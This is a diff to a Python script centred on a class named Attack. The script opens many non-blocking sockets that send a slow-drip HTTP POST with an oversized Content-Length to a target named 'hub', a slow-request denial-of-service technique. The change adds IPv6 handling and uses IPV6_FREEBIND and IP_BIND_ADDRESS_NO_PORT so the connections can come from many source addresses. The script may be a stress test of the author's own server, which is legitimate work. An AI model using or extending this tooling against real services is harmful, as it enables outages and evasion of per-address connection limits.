@@ -19,6 +19,10 @@ AT_A_TIME = 500
 FILES = 16_000
 SLOW = b"POST /%d HTTP/1.1\r\nHost: hub\r\nContent-Length: 100000\r\n\r\n"
 DRIP = 0.5
+BIND = {
+    socket.AF_INET: (socket.IPPROTO_IP, 24),  # IP_BIND_ADDRESS_NO_PORT
+    socket.AF_INET6: (socket.IPPROTO_IPV6, 78),  # IPV6_FREEBIND: any address of a routed network
+}
 
 
 class Attack:
@@ -26,6 +30,7 @@ class Attack:
 
     def __init__(self, target: tuple[str, int]) -> None:
         self._target = target
+        self._family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
         self._poll = select.epoll()
         self._open: dict[int, tuple[socket.socket, bytes]] = {}
         self.ends: Counter[str] = Counter()
@@ -34,10 +39,10 @@ class Attack:
 
     def connect(self, data: bytes, source: str = "") -> None:
         """Begin a connection."""
-        made = socket.socket()
+        made = socket.socket(self._family)
         made.setblocking(False)
         if source:
-            made.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
+            made.setsockopt(*BIND[self._family], 1)
             made.bind((source, 0))
         made.connect_ex(self._target)
         self._open[made.fileno()] = made, data
